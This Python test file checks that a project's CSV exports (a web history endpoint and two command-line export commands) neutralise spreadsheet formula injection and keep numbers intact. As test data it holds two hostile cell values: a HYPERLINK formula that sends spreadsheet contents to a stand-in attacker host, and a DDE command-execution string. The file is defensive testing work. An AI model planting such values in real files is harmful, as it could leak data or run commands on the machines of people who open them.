"""Spreadsheet formula injection through the CSV exports: a reviewer name or note saved
from the page, then every CSV the project writes (``/history.csv`` from a real server,
``results export`` and ``results list --csv`` as a user runs them) read back with the
csv module: the formula starts are defused, the numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from urllib.parse import urlencode

import pytest

from padformer_edge.store.csv_cells import FORMULA_STARTS, SafeDictWriter, safe_cell
from padformer_edge.web.server import WebServer
from tests.cli_process import run_cli
from tests.web.client import request
from tests.web.site import Site

HOSTILE = {
    "reviewer": '=HYPERLINK("http://evil.example/?"&A1, "open me")',
    "note": "+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_defused_and_plain_text_is_not(start: str) -> None:
    assert safe_cell(f"{start}SUM(1,2)") == f"'{start}SUM(1,2)"
    assert safe_cell(f"cam{start}1") == f"cam{start}1"
    assert safe_cell(-0.5) == -0.5 and safe_cell(7) == 7 and safe_cell(None) is None


def test_the_writer_defuses_rows_it_writes_one_or_many() -> None:
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name", "score"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": "@evil", "score": -1.25})
    writer.writerows([{"name": "-2+3", "score": 3}])
    assert out.getvalue() == "name,score\n'@evil,-1.25\n'-2+3,3\n"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _check(rows: list[dict[str, str]], row_id: int) -> None:
    (hostile,) = [r for r in rows if r["id"] == str(row_id)]
    assert hostile["reviewed_by"] == "'" + HOSTILE["reviewer"]
    assert hostile["review_note"] == "'" + HOSTILE["note"]
    for r in rows:  # no text cell of any row opens as a formula
        assert not any(v.startswith(FORMULA_STARTS) for k, v in r.items() if k != "score")
        if r["score"]:
            float(r["score"])  # a number, not a quoted string
    assert float(hostile["score"]) > 1.0  # the score itself came through unchanged


def test_every_export_defuses_a_hostile_review(server: WebServer, site: Site,
                                               tmp_path: Path) -> None:  # fmt: skip
    row = site.anomalies[0]
    body = urlencode({"verdict": "false_alarm", **HOSTILE}).encode()
    saved = request(server.url, f"/inspections/{row}/review", method="POST",
                    headers={"Origin": server.url}, body=body)  # fmt: skip
    assert saved.status == 200

    _check(_rows(request(server.url, "/history.csv").text), row)

    listed = run_cli("results", "list", "--db", site.db, "--csv", "--limit", "100")
    assert listed.returncode == 0, listed.stderr
    _check(_rows(listed.stdout), row)

    out = tmp_path / "export.csv"
    exported = run_cli("results", "export", str(out), "--db", site.db)
    assert exported.returncode == 0, exported.stderr
    _check(_rows(out.read_text(encoding="utf-8")), row)
